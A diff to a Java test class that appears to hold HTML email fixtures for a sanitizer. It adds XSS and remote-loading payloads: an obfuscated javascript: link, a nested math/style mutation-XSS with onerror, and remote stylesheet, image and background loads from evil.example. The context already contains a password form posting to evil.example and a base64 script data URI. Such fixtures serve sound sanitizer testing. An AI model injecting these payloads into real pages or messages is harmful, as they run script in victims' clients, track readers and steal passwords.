@@ -40,6 +40,12 @@ final class TestMessages {
             + "<form action=\"http://evil.example/post\"><input name=\"password\"></form>"
             + "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"
             + "<object data=\"http://evil.example/x.swf\"></object>"
+            + "<a href=\"java&#x09;script:alert('tab')\">tab</a>"
+            + "<img srcset=\"http://evil.example/a.png 2x\" src=\"//tracker.example/relative.png\">"
+            + "<table background=\"http://evil.example/bg.png\"><tr><td>cell</td></tr></table>"
+            + "<link rel=\"stylesheet\" href=\"http://evil.example/s.css\">"
+            + "<math><mtext><table><mglyph><style><img src=x onerror=alert('math')></style></mglyph></table></mtext></math>"
+            + "<div style=\"background:url(http://evil.example/div.png)\">styled</div>"
             + "</body></html>";
 
     static final String PLAIN = "Hello Sam,\n\nthe offer is attached.\n\nAnn";
